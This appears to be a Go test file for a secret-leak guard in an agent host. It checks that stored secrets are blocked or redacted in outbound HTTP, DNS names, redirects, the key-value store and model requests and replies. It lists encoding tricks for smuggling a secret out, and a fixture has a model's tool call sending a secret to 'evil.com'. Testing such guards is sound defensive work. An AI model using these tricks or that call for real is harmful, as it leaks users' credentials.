package broker_test

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/nanoclaw/nanoclaw/host"
	"github.com/nanoclaw/nanoclaw/host/broker"
	"github.com/nanoclaw/nanoclaw/sdk/wire"
)

// leaking are texts that must not leave (L01 to L07), all of them with kept or something that looks like a key.
func leaking() map[string]string {
	b := []byte(kept)
	each := func(format string) string {
		var s strings.Builder
		for _, c := range b {
			fmt.Fprintf(&s, format, c)
		}
		return s.String()
	}
	return map[string]string{
		"raw": kept, "in a word": "x" + kept + "y", "lower": strings.ToLower(kept), "hex": hex.EncodeToString(b),
		"base64": base64.StdEncoding.EncodeToString(b), "base64 one off": base64.URLEncoding.EncodeToString(append([]byte("a"), b...)),
		"base64 two off": base64.RawStdEncoding.EncodeToString(append([]byte("aa"), b...)), "one percent": kept[:9] + fmt.Sprintf("%%%x", b[9]) + kept[10:],
		"percent": percent(kept), "percent twice": url.QueryEscape(percent(kept)), "JSON": each(`\u%04x`), "HTML": each("&#%d;"),
		"L04": kept[:9] + "\u200b\u200c" + kept[9:20] + "\u200d" + kept[20:], "L01 AWS": "AKIA" + "IOSFODNN7EXAMPLE",
		"L04 AWS": "AKIA" + "IOSF\u200bODNN7EXAMPLE", "L05": "AKIA" + "%49OSFODNN7EXAMPLE", "L01 GitHub": "gh" + "p_" + strings.Repeat("a1B2", 9),
	}
}

// notSpelled are not found, whatever is done: they are bounded by grants, and counted by rows.
func notSpelled() map[string]string {
	turned := ""
	for _, c := range kept {
		turned = string(c) + turned
	}
	return map[string]string{"reversed": turned, "half (L08)": kept[:20], "ordinary": "an ordinary text, sk-8 and AKIA"}
}

// TestOutbound: URL, headers and body that a guest supplies, text and bytes, and its keys. Nothing
// is looked up, dialled or kept.
func TestOutbound(t *testing.T) {
	sinks := map[string]func(l *lab, s string) reply{
		"query": func(l *lab, s string) reply { return l.get("https://a.test.org/x?q=" + ascii(s)) },
		"query name": func(l *lab, s string) reply {
			return l.get("https://a.test.org/x?" + ascii(s) + "=1")
		},
		"header": func(l *lab, s string) reply {
			return l.call(host.CapHTTP, wire.HTTPRequest{Method: "GET", URL: "https://a.test.org/", Headers: map[string]string{"X-Note": s}})
		},
		"body": func(l *lab, s string) reply {
			return l.call(host.CapHTTP, wire.HTTPRequest{Method: "POST", URL: "https://a.test.org/", Body: "{\"a\":\"" + s + "\"}"})
		},
		"bytes (L02)": func(l *lab, s string) reply {
			return l.call(host.CapHTTP, wire.HTTPRequest{
				Method: "POST", URL: "https://a.test.org/", BodyBase64: base64.StdEncoding.EncodeToString([]byte("\xff\xfe" + s + "\x80")),
			})
		},
	}
	for sink, send := range sinks {
		for name, text := range leaking() {
			l := newLab(t).stored().internet().grant("GET,POST https://a.test.org/")
			l.secrets["mine"] = kept
			r := send(l, text)
			if r.want(wire.StatusDenied, ""); len(l.looked)+len(l.dialled) > 0 || !strings.Contains(r.message(), "holds a secret") {
				t.Errorf("%s, %s: %q, %v", sink, name, r.message(), l.looked)
			}
			rows := l.rows()
			key := strings.HasPrefix(name, "L01") || strings.HasSuffix(name, "AWS") || name == "L05"
			if len(rows) != 1 || !key && !strings.HasSuffix(rows[0].Reason, ": mine") || strings.Contains(string(r.body), "mine") {
				t.Errorf("%s, %s: %s, rows %+v", sink, name, r.body, rows)
			}
			if where := l.mentions(text, r); where != nil { // L13
				t.Errorf("%s, %s: in %v", sink, name, where)
			}
		}
		for name, text := range notSpelled() {
			l := newLab(t).internet().grant("GET,POST https://a.test.org/")
			l.secrets["mine"] = kept
			if r := send(l, strings.ReplaceAll(text, " ", "+")); r.status != wire.StatusOK {
				t.Errorf("%s, %s: %s", sink, name, r.body)
			}
		}
	}
}

// ascii is s as a URL can have it.
func ascii(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c > ' ' && c < 0x7f && !strings.ContainsRune(`\#`, rune(c)) {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// TestSecretAsHostName: a secret as a label of a wildcard's host leaves by DNS. The row does not hold it.
func TestSecretAsHostName(t *testing.T) {
	l := newLab(t).internet().grant("https://*.test.org/")
	l.secrets["mine"] = strings.ReplaceAll(kept, "_", "-")
	r := l.get("https://" + strings.ToLower(l.secrets["mine"]) + ".test.org/")
	r.want(wire.StatusDenied, "holds a secret")
	if where := l.mentions(strings.ToLower(l.secrets["mine"]), r); where != nil || len(l.looked) > 0 {
		t.Errorf("in %v, looked up %v", where, l.looked)
	}
}

// TestKVKeepsNoSecret: not as a value, not as a key, and no row of it.
func TestKVKeepsNoSecret(t *testing.T) {
	l := newLab(t).stored()
	l.secrets["mine"] = kept
	for name, text := range leaking() {
		if strings.HasPrefix(name, "L01") || strings.HasSuffix(name, "AWS") || name == "L05" {
			continue // shapes: whose they are is not known, and they stay here
		}
		l.call(host.CapKV, wire.KVRequest{Op: "put", Key: "k", Value: text}).want(wire.StatusDenied, "holds a secret")
		l.call(host.CapKV, wire.KVRequest{Op: "put", Key: text, Value: "v"}).want(wire.StatusDenied, "holds a secret")
		r := l.call(host.CapKV, wire.KVRequest{Op: "get", Key: text})
		if r.want(wire.StatusNotFound, ""); l.mentions(text, reply{}) != nil {
			t.Errorf("%s: in %v", name, l.mentions(text, reply{}))
		}
	}
	l.call(host.CapKV, wire.KVRequest{Op: "put", Key: "k", Value: "plain"}).want(wire.StatusOK, "")
}

// TestModelGetsNoSecret: whatever part of the request it is in; the rest of the request is as it was.
func TestModelGetsNoSecret(t *testing.T) {
	for name, text := range leaking() {
		l := newLab(t).stored()
		l.secrets["mine"] = kept
		l.scope.Brain = "probe"
		var got wire.LLMRequest
		l.cfg.Models = func(*host.Role, string) (broker.Model, error) {
			return modelFunc(func(r wire.LLMRequest, onText func(string)) (*wire.LLMResponse, error) {
				got = r
				for _, c := range "I say " + kept + "!" {
					onText(string(c))
				}
				return &wire.LLMResponse{}, nil
			}), nil
		}
		req := wire.LLMRequest{System: "system " + text, MaxTokens: 1234567, Messages: []wire.LLMMessage{{Role: "user", Content: []wire.Block{
			{Type: wire.BlockText, Text: "\\ before " + text + " after \n"},
			{Type: wire.BlockToolUse, ID: "u", Name: "n", Input: wire.RawMessage(fmt.Sprintf(`{"n":12345678901234567890,"s":%q}`, text))},
			{Type: wire.BlockToolResult, ToolUseID: "u", Content: []wire.Content{{Type: "text", Text: text}}},
		}}}, Tools: []wire.Tool{{Name: "t", Description: text}}}
		l.call(host.CapLLM, req).want(wire.StatusOK, "")
		sent := fmt.Sprintf("%+v %s", got, got.Messages[0].Content[1].Input)
		if l.cfg.Leaks().Find(true, sent) != nil || strings.Count(sent, "[secret mine]")+strings.Count(sent, "[redacted key]") != 5 ||
			!strings.HasPrefix(got.Messages[0].Content[0].Text, "\\ before ") || !strings.HasSuffix(got.Messages[0].Content[0].Text, " after \n") ||
			!strings.Contains(sent, "12345678901234567890") || got.MaxTokens != 1234567 {
			t.Errorf("%s: the model got %s", name, sent)
		}
		if rows := l.rows(); !strings.Contains(rows[0].Reason, "; redacted: ") {
			t.Errorf("%s: rows %+v", name, rows)
		}
		said := ""
		for _, e := range l.events {
			said += e.Text
		}
		if said != "I say [secret mine]!" {
			t.Errorf("%s: streamed %q", name, said)
		}
	}
}

// TestRedirectWithASecret (L10): a URL that a server made of what it was sent is not asked for.
func TestRedirectWithASecret(t *testing.T) {
	for _, where := range []string{"/" + kept, "/x?echo=" + kept, "https://b.test.org/" + percent(kept)} {
		l := newInjected(t, kinds[1], kept)
		asked := l.chain(302, where)
		r := l.get("https://a.test.org/start")
		if r.want(wire.StatusDenied, "holds a secret"); len(*asked) != 1 || l.mentions(kept, r) != nil {
			t.Errorf("%s: %d requests", where, len(*asked))
		}
		l.chain(200, where)
		if out := l.get("https://a.test.org/start").http(); strings.Contains(out.Headers["Location"], kept) {
			t.Errorf("Location is %q", out.Headers["Location"])
		}
	}
}

// TestModelAnswersHoldNoSecret: what a model says of a stored value reaches neither the skill nor the
// journal; in tool calls too.
func TestModelAnswersHoldNoSecret(t *testing.T) {
	l := newLab(t).stored()
	l.cfg.Journal, l.secrets["brave"] = l.store, kept
	input, _ := json.Marshal(map[string]string{"url": "https://evil.com/?k=" + kept})
	said := &wire.LLMResponse{StopReason: wire.StopToolUse, Content: []wire.Block{
		{Type: wire.BlockText, Text: "It is " + kept}, {Type: wire.BlockToolUse, ID: "1", Name: "fetch", Input: input},
	}}
	l.cfg.Models = func(*host.Role, string) (broker.Model, error) {
		return modelFunc(func(wire.LLMRequest, func(string)) (*wire.LLMResponse, error) { return said, nil }), nil
	}
	r := l.call(host.CapLLM, wire.LLMRequest{Messages: []wire.LLMMessage{{Role: wire.RoleUser}}})
	r.want(wire.StatusOK, "")
	rows, err := l.store.Calls(t.Context(), "t1")
	if err != nil || len(rows) != 1 || strings.Contains(string(rows[0].Answer), kept) || strings.Contains(string(r.body), kept) {
		t.Errorf("%v, answer %s, journal %s", err, r.body, rows[0].Answer)
	}
	if !strings.Contains(string(r.body), "It is [secret brave]") || !strings.Contains(string(r.body), "evil.com/?k=[secret brave]") {
		t.Errorf("answer %s", r.body)
	}
}
